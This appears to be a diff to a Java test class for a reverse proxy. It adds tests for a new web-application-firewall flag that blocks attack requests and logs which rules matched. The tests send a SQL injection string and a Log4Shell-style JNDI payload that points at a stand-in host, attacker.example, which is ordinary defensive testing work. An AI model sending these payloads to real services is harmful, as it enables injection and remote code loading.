@@ -49,7 +49,7 @@ class LauncherTest {
                 "--allow-trace", "--h2c-upgrade", "--no-merge-slashes", "--escaped-slashes", "--trusted-proxy",
                 "--no-access-log", "--tcp", "--proxy-protocol", "--tls-port", "--cert", "--key", "--sni-passthrough", "--allow", "--deny", "--security-headers",
                 "--health-check", "--rate-limit RATE[,burst=N][,nodelay][,key=ip|header:NAME]", "--max-conns-per-ip N",
-                "--compress", "--static", "--cache", "--access-log-format", "--admin-port");
+                "--compress", "--static", "--cache", "--access-log-format", "--admin-port", "--waf detect|block");
     }
 
     @Test
@@ -462,6 +462,50 @@ class LauncherTest {
         assertThat(process.exitValue()).isEqualTo(2);
         assertThat(output).contains("proxy4j: --rate-limit: \"10r/h,burst=5\": rate: \"10r/h\" (expected: requests per"
                 + " second or minute, as 10r/s or 600r/m)");
+    }
+
+    @Test
+    void wafFlagBlocksAnAttackWith403AndLetsOrdinaryRequestsThrough() throws Exception {
+        Server backend = Quickstart.demoBackend("api");
+        Process process = launch("run", "--port", "0", "--host", "127.0.0.1", "--no-access-log", "--waf", "block",
+                "--upstream", Quickstart.uri(backend));
+        BufferedReader out = new BufferedReader(new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8));
+        try {
+            URI base = URI.create("http://127.0.0.1:" + announcedPort(out));
+            List<String> output = new java.util.concurrent.CopyOnWriteArrayList<>();
+            Thread reader = new Thread(() -> out.lines().forEach(output::add));
+            reader.setDaemon(true);
+            reader.start();
+            HttpResponse<String> attack = Http.get(base, "/search?q=%27%20OR%20%271%27%3D%271");
+            assertThat(attack.statusCode()).isEqualTo(403);
+            assertThat(attack.body()).isEqualTo("403 Forbidden\nrequest blocked\n");
+            assertThat(attack.headers().firstValue("X-Request-Id")).isPresent();
+            assertThat(Http.get(base, "/x", "User-Agent", "${jndi:ldap://attacker.example/a}").statusCode()).isEqualTo(403);
+            HttpResponse<String> ordinary = Http.get(base, "/search?q=O%27Brien");
+            assertThat(ordinary.statusCode()).isEqualTo(200);
+            assertThat(ordinary.body()).contains("api got GET /search");
+            // every match, once per request, with its rule id, score and the part it matched in
+            assertThat(awaitLine(output, "waf blocked GET /search request=")).contains("sqli-110 +5 query:q \"' or '1'=\"");
+            assertThat(awaitLine(output, "waf blocked GET /x request="))
+                    .contains("lookup-100 +5 header:User-Agent \"${jndi:ldap://attacker.example/a}\"");
+        } finally {
+            process.destroy();
+            assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
+            backend.stop();
+        }
+    }
+
+    @Test
+    void wafFlagIsPrintedAsTheConfigFilesKeyAndABadModeIsNamed() throws Exception {
+        Process printed = launch("run", "--print-config", "--upstream", "http://127.0.0.1:9", "--waf", "detect");
+        String config = finish(printed);
+        assertThat(printed.exitValue()).isZero();
+        assertThat(config).contains("waf: detect");
+
+        Process refused = launch("run", "--port", "0", "--upstream", "http://127.0.0.1:9", "--waf", "deny");
+        String output = finish(refused);
+        assertThat(refused.exitValue()).isEqualTo(2);
+        assertThat(output).contains("proxy4j: --waf: \"deny\" (expected: detect or block)");
     }
 
     /** What the proxy answered, or nothing when it closed or reset the connection unanswered. */
